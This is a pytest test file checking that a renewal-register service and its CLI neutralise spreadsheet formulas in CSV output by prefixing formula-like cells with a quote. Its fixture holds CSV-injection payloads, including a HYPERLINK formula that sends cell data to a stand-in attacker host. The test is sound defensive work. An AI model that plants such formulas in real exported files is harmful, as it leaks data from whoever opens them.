"""/renewal/results.csv and `policyhub renewal check --format csv`: an uploaded cell never becomes a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from policyhub.renewal import service
from policyhub.renewal.output import to_csv
from policyhub.web.app import create_app

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)"]
REGISTER = "asset,name,commissioned,capacity,unit,design_life_years\n" + "".join(
    f'"{f.replace(chr(34), chr(34) * 2)}","{f.replace(chr(34), chr(34) * 2)}",2003-05-01,20000,kVA,20\n'
    for f in FORMULAS
)


@pytest.fixture
def client(migrated_sqlite_url: str) -> Iterator[TestClient]:
    with TestClient(create_app(migrated_sqlite_url)) as c:
        yield c


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_results_csv_prefixes_every_formula_cell_from_the_upload(client: TestClient) -> None:
    form = {"sector": "石化化工", "as_of": "2026-12-02"}
    res = client.post("/renewal/results.csv", files={"file": ("r.csv", REGISTER.encode(), "text/csv")}, data=form)
    assert res.status_code == 200, res.text
    rows = _cells(res.content.decode("utf-8"))
    assert [(r[1], r[2]) for r in rows[1:]] == [("'" + f, "'" + f) for f in FORMULAS]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)


def test_the_cli_csv_is_the_same_text() -> None:
    result = service.check_file(REGISTER.encode(), "r.csv", "石化化工", "2026-12-02", None)
    rows = _cells(to_csv(result))
    assert [r[1] for r in rows[1:]] == ["'" + f for f in FORMULAS]
